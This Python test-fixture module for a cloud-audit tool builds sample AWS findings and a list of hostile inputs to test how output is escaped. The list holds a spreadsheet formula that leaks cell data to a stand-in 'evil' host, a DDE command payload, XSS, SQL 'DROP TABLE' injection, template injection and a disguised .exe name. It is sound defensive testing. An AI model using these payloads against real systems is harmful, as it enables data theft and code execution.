"""Findings as the store gives them, ordinary and hostile."""

from __future__ import annotations

from typing import Any

from liveaudit.deliver.interface import Found, Library
from liveaudit.model import FindingStatus, Severity
from liveaudit.services import load

STATUSES = tuple(each.value for each in FindingStatus)
SEVERITIES = tuple(each.value for each in Severity)
HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "a;=1+1",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "</td></tr><img src=x onerror=alert(1)>",
    "[click](http://evil)",
    "{0} {{1}}",
    "{{ 7 * 7 }}{% raw %}",
    "\u202egpj.exe\u2066",
    "\x1b[31mred\x1b[0m\x07",
    "\x7f\x80\u2028\u2029\ufeff",
    '"quoted", and \\ back',
    "'; DROP TABLE findings; --",
    "naïve 漢字 🦊",
    "   ",
    "x" * 100_000,
)
_WHO = {
    "type": "IAMUser",
    "arn": "arn:aws:iam::111111111111:user/ann",
    "account": "111111111111",
    "principal_id": "AIDA1",
    "issuer": "",
    "source_ip": "203.0.113.9",
    "user_agent": "aws-cli/2",
}
CHANGE = {
    "event_id": "e-1",
    "source": "s3.amazonaws.com",
    "name": "PutBucketAcl",
    "account": "111111111111",
    "region": "eu-west-1",
    "time": "2026-11-26T06:00:00+00:00",
    "actor": _WHO,
    "hops": {"event": 1_800_000_000.0},
}


def library() -> Library:
    """The texts of every built-in policy."""
    return Library(load()[1])


def finding(**changes: Any) -> dict[str, Any]:
    """One finding, open since a minute."""
    return {
        "id": "0f0e9a52-6c3d-4a3c-8f57-000000000001",
        "policy": "s3_bucket_public_access",
        "severity": "critical",
        "status": "new",
        "type": "AWS::S3::Bucket",
        "resource": "shop-photos",
        "arn": "arn:aws:s3:::shop-photos",
        "account": "222222222222",
        "region": "eu-west-1",
        "reason": "everybody may read it",
        "evidence": {"grants": [{"Grantee": {"URI": "AllUsers"}, "Permission": "READ"}]},
        "opened_at": 1_800_000_000.25,
        "closed_at": None,
        "updated_at": 1_800_000_060.5,
        "times_opened": 1,
        "opened_by": [CHANGE],
        "closed_by": None,
        "opened_hops": {"event": 1_800_000_000.0, "stored": 1_800_000_000.25},
        "closed_hops": None,
    } | changes


def found(**changes: Any) -> Found:
    """The same, with its texts."""
    made = finding(**changes)
    return Found(made, library().of(made["policy"], made["type"]))


def hostile() -> list[Found]:
    """Findings of which every field that others fill in is as bad as can be."""
    made = []
    for number, text in enumerate(HOSTILE):
        actor = dict.fromkeys(_WHO, text)
        made.append(
            found(
                id=f"0f0e9a52-6c3d-4a3c-8f57-{number:012}",
                resource=text,
                arn=f"arn:aws:s3:::{text}",
                reason=f"{text} is open",
                evidence={text: [text, {"deep": text}], "n": 1.5, "none": None},
                opened_by=[{**CHANGE, "name": text, "event_id": text, "actor": actor}],
                owner=text,
                decided_by=f"person:{text}",
            )
        )
    return made


def every_kind() -> list[Found]:
    """Findings of every status and severity, of policies of several services, and of one that is gone."""
    _, policies = load()
    some = policies.all()[::17]
    made = [
        found(
            id=f"1f0e9a52-6c3d-4a3c-8f57-{number:012}",
            policy=policy.id,
            type=policy.type,
            status=STATUSES[number % len(STATUSES)],
            severity=SEVERITIES[number % len(SEVERITIES)],
            region="global" if number % 3 else "eu-west-1",
            closed_at=1_800_000_060.5,
        )
        for number, policy in enumerate(some * 2)
    ]
    return [
        *made,
        found(policy="gone_since", type="AWS::None::Such", opened_by=[]),
        found(region="cn-north-1", arn="arn:aws-cn:s3:::x"),
        found(region="us-iso-east-1", arn="arn:aws-iso:s3:::x"),
        found(region="eusc-de-east-1", arn="arn:aws-eusc:s3:::x", reason=""),
        found(opened_by=[{"kind": "sweep"}], arn="no arn at all"),
        found(opened_by=[{**CHANGE, "actor": {**_WHO, "source_ip": "cloudformation.amazonaws.com"}}]),
    ]
